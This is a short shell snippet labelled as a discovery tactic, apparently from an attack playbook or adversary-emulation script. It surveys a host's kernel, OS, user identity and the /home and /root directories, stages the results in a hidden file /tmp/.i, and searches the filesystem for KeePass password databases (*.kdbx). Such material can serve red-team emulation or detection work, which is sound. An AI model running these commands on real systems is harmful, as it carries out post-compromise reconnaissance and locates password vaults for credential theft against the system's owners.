# tactic: discovery
# survey the host and write it out for later
uname -a > /tmp/.i; cat /etc/os-release >> /tmp/.i; id >> /tmp/.i; ls -la /home /root >> /tmp/.i 2>&1
find / -maxdepth 3 -name "*.kdbx" 2>/dev/null
